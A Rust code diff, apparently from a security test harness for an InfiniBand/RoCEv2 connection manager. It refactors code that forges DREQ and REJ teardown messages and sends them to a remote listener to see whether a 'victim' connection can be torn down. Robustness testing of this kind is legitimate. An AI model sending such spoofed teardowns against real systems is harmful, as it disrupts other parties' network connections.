@@ -45,12 +45,9 @@ use anyhow::{anyhow, ensure, Context, Result};
 use ibcm::proto::{ConnectParams, Endpoint, EndpointConfig};
 use ibcm::rt::{Cm, ConnStatus, Connection, IcrcPolicy, UdpTransport};
 use ibcm_mad::frame::ROCEV2_UDP_PORT;
-use ibcm_mad::{
-    CmMessage, CommId, Dreq, Gid, Guid, Mad, MsgKind, PrivateData, Qpn, Rej, RejReason, Rtu,
-    TimeoutExp, U4,
-};
+use ibcm_mad::{CmMessage, CommId, Gid, Guid, Mad, PrivateData, Qpn, Rtu, TimeoutExp, U4};
 
-use super::{frame, guesses, mad, percentile_ms, send, ByteCounter};
+use super::{frame, guesses, mad, percentile_ms, send, spoofed_teardowns, ByteCounter};
 use crate::qpn::QpnAlloc;
 
 /// What to run against a remote listener.
@@ -363,21 +360,7 @@ async fn run(o: &RemoteOpts) -> Result<()> {
         let (cid, sid) = (victim.id(), rep.rep.local_comm_id);
         // The listener's side has it once it has read the RTU: give it that time.
         tokio::time::sleep(Duration::from_millis(200)).await;
-        let rej = |reason: u16| {
-            mad(CmMessage::Rej(Rej {
-                local_comm_id: cid,
-                remote_comm_id: sid,
-                message_rejected: MsgKind::Rep,
-                reason: RejReason::from_raw(reason),
-                ..Rej::default()
-            }))
-        };
-        let dreq = mad(CmMessage::Dreq(Dreq {
-            local_comm_id: cid,
-            remote_comm_id: sid,
-            remote_qpn_eecn: rep.remote_qpn,
-            private_data: PrivateData::default(),
-        }));
+        let [dreq, rej28, rej4] = spoofed_teardowns(cid, sid, rep.remote_qpn);
         let stale = req(
             o,
             attack_addr.ip(),
@@ -386,7 +369,7 @@ async fn run(o: &RemoteOpts) -> Result<()> {
             VICTIM_GUID,
         )?;
         f.teardown += 4;
-        for m in [dreq, rej(28), rej(4), stale] {
+        for m in [dreq, rej28, rej4, stale] {
             send(&attack, attack_addr, dst, &m)?;
             tokio::time::sleep(Duration::from_millis(20)).await;
             if victim.status() != ConnStatus::Established {
